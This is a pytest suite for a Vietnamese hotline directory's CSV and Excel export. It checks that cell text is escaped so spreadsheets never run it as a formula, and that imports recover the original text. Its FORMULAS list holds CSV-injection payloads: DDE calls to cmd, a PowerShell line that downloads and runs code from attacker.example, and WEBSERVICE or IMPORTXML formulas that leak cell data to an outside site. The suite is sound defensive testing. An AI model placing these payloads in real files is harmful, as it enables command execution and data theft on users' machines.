"""No text of the directory becomes a formula in a spreadsheet, and none is altered by that."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bilingual.text import BIDIRECTIONAL, ZERO_WIDTH, nfc
from hotlines.exchange import csv_files, excel_files, listing, sheets
from hotlines.exchange.carry_out import carry_out
from hotlines.exchange.formulas import guarded, kept, plain
from hotlines.exchange.planning import make_plan
from hotlines.models import Contact
from tests.factories import make_agency, make_contact, make_province

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/x)'!A1",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "+84 694 387 389",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("https://lua-dao.example","Xem")',
    '=HYPERLINK("https://lua-dao.example?x="&A1,"Lỗi")',
    '=IMPORTXML(CONCAT("https://lua-dao.example/?v=",A1),"//a")',
    '=IMPORTDATA("https://lua-dao.example/x.csv")',
    '=IMAGE("https://lua-dao.example/x.png")',
    '=WEBSERVICE("https://lua-dao.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!\"\"",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tthụt vào",
    "\rxuống dòng",
    "   =1+1",
    "  +84 694 387 389",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
    "＝1+1",
    "＋84 694 387 389",
    "－2+3",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'＝1+1",
    '"=1+1"',
    "x;=1+1",
    "x\n=1+1",
    "x\t@SUM(A1)",
    "a;'=1+1;'b",
    "=",
    "-",
]
ORDINARY = [
    "0694.387.389",
    "Gọi 113",
    "'tên'",
    "Soạn V (số) gửi 156",
    "a-b",
    "1+1=2",
    "'",
    "''",
    "",
]
DANGEROUS = re.compile(f"[\\s\\x00-\\x20{BIDIRECTIONAL}{ZERO_WIDTH}]*[=+\\-@＝＋－＠]|[\\t\\r\\n]")

texts = st.text(
    st.sampled_from("=+-@＝＋ \t\r\n;'\"ađ1,\u00a0\u200b\x01") | st.characters(codec="utf-8"),
    max_size=12,
)


def test_there_are_forty_formulas():
    assert len(set(FORMULAS)) >= 40


def cells_of_csv(data, delimiter=","):
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def tags_of_xlsx(data):
    """Return every tag in the parts of the workbook, as it is written: <c r="A1" s="1" t="s">."""
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        parts = [workbook.read(name).decode() for name in workbook.namelist()]
    return [tag for part in parts for tag in re.findall("<[^/?][^>]*>", part)]


def named(tags, *names):
    return [tag for tag in tags if re.match(r"<(?:\w+:)?(\w+)", tag)[1] in names]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_csv_cell_begins_like_a_formula(text):
    assert not any(map(DANGEROUS.match, cells_of_csv(csv_files.write([["Mã"], [text, "x", text]]))))


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_csv_cell_begins_like_a_formula_where_the_separator_is_another(text, delimiter):
    # A spreadsheet that expects semicolons takes a quotation mark within a cell for a letter.
    data = csv_files.write([["Mã"], ["x", text]]).decode("utf-8-sig")
    cells = re.split(r"[\r\n]+|" + delimiter, data)
    assert not [cell for cell in cells if DANGEROUS.match(cell)]


@pytest.mark.parametrize("text", FORMULAS + ORDINARY)
def test_a_csv_file_gives_back_the_text(text):
    rows = sheets.read(csv_files.write([["Mã", "b"], [text, "x"], ["x", "x"]]))
    assert rows[1][0] == text


@pytest.mark.parametrize("text", FORMULAS + ORDINARY)
def test_an_excel_file_gives_back_the_text(text):
    rows = sheets.read(excel_files.write([["Mã", "b"], [text, "x"], ["x", "x"]], [9, 9]))
    assert rows[1][0] == text


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_stands_in_the_file_as_it_is(text):
    assert guarded(text) == kept(text) == text


def test_an_excel_file_shows_a_number_with_its_country_code_as_it_is():
    assert kept("+84 694 387 389") == "+84 694 387 389"


def test_an_apostrophe_that_excel_left_in_a_cell_is_taken_away():
    assert plain("'+84 694 387 389") == "+84 694 387 389"


def test_an_excel_file_holds_no_formula():
    tags = tags_of_xlsx(excel_files.write([["Mã"], *([text, text] for text in FORMULAS)], [9]))
    assert named(tags, "f", "hyperlink", "oleObject", "ddeLink", "externalLink") == []


def test_an_excel_file_holds_nothing_but_texts():
    rows = [["Mã"], *([text] for text in [*FORMULAS, "113", "0694387389", "https://a.example"])]
    cells = named(tags_of_xlsx(excel_files.write(rows, [9])), "c")
    assert [cell for cell in cells if 't="s"' not in cell] == []


def test_every_text_is_a_cell_of_the_excel_file():
    rows = [["Mã"], *([text] for text in FORMULAS)]
    assert len(named(tags_of_xlsx(excel_files.write(rows, [9])), "c")) == len(rows)


def test_an_excel_cell_is_marked_as_text_that_was_quoted():
    formats = named(tags_of_xlsx(excel_files.write([["Mã"], ["=1"]], [9])), "xf")
    assert [form for form in formats if 'quotePrefix="1"' in form]


@given(texts)
def test_what_guards_a_text_is_taken_back_exactly(text):
    assert plain(guarded(text)) == text


@given(texts)
def test_what_keeps_a_text_is_taken_back_exactly(text):
    assert plain(kept(text)) == text


@given(texts)
def test_no_guarded_text_begins_like_a_formula(text):
    assert not DANGEROUS.match(guarded(text))


# Through the directory

FIELDS = ("purpose_vi", "purpose_en", "usage_vi", "hours_vi", "source", "held_back")


@pytest.fixture
def infected(db):
    """One contact for each formula, which stands in several of its columns."""
    agency = make_agency("=1+1 Công an", province=make_province(), name_en="@SUM(A1)")
    return [
        make_contact(
            agency,
            channel=Contact.Channel.APP,
            value=f"{text} {number}",
            is_public=False,
            source_date=None,
            order=number,
            **dict.fromkeys(FIELDS, text),
        )
        for number, text in enumerate(FORMULAS)
    ]


WRITERS = [listing.as_csv, listing.as_xlsx]


def exported(write):
    return write(Contact.objects.select_related("agency"))


def test_no_cell_of_an_exported_csv_begins_like_a_formula(infected):
    assert not any(map(DANGEROUS.match, cells_of_csv(exported(listing.as_csv))))


def test_an_exported_excel_file_holds_no_formula(infected):
    assert named(tags_of_xlsx(exported(listing.as_xlsx)), "f") == []


@pytest.mark.parametrize("write", WRITERS)
def test_an_export_with_formulas_changes_nothing_where_it_comes_from(infected, write):
    plan = make_plan(sheets.read(exported(write)))
    assert (plan.faults, plan.to_write) == ([], [])


@pytest.mark.parametrize("write", WRITERS)
def test_an_import_stores_the_texts_themselves(infected, officer, write):
    data = exported(write)
    Contact.objects.all().delete()
    plan = make_plan(sheets.read(data), by=officer)
    list(carry_out(plan, by=officer, name="x"))
    # Blanks around a text are dropped, as the forms of the admin drop them.
    wanted = [[nfc(text).strip()] * len(FIELDS) for text in FORMULAS]
    assert [list(row) for row in Contact.objects.order_by("order").values_list(*FIELDS)] == wanted
